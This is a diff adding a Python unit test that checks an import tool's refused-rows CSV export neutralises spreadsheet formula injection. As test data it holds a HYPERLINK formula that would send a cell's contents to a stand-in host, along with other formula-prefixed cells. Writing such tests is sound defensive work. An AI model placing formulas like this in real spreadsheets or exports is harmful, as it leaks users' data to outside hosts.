@@ -87,3 +87,20 @@ class Import(Case):
         for number, name in (("A-1", "甲, 乙 公司"), ("a-2", "丙公司"), ("A-3", "丁公司")):
             verdict = node.verify([{"fields": {"type": code, "number": number, "holder_code": "91310118MA1JL0000N", "holder_name": name}}])[1]["verdicts"][0]
             self.assertEqual(verdict["verdict"], "valid", (number, verdict))
+
+    def test_refused_rows_calculate_nothing_in_a_spreadsheet(self):
+        node = self.node()
+        path = self.folder / "hand.csv"
+        name = "=HYPERLINK(\"http://a.example/?\"&A1,\"x\")"
+        with open(path, "w", newline="", encoding="utf-8") as out:
+            csv.writer(out).writerows([["CZZT", "=1+1", "ZZBH", "CZZTDMLXDM", "CZZTDM", "ZZYXQQSRQ"], [name, "@SUM(A1)", "F-1", "001", "91310118MA1JL0000X", "20260101"]])
+        result, refused = self.load(node, path)
+        self.assertEqual((result["accepted"], result["refused"]), (0, 1), result)
+        for row in read_csv(refused):
+            for cell in row:
+                self.assertNotIn(cell.strip()[:1], ("=", "+", "-", "@"), row)
+        refused.write_bytes(refused.read_bytes().replace(b"91310118MA1JL0000X", b"91310118MA1JL0000N"))
+        corrected, _ = self.load(node, refused)
+        self.assertEqual((corrected["accepted"], corrected["refused"]), (1, 0), corrected)
+        fields = {"type": node.type_code(), "number": "F-1", "holder_code": "91310118MA1JL0000N", "holder_name": name}
+        self.assertEqual(node.verify([{"fields": fields}])[1]["verdicts"][0]["verdict"], "valid")
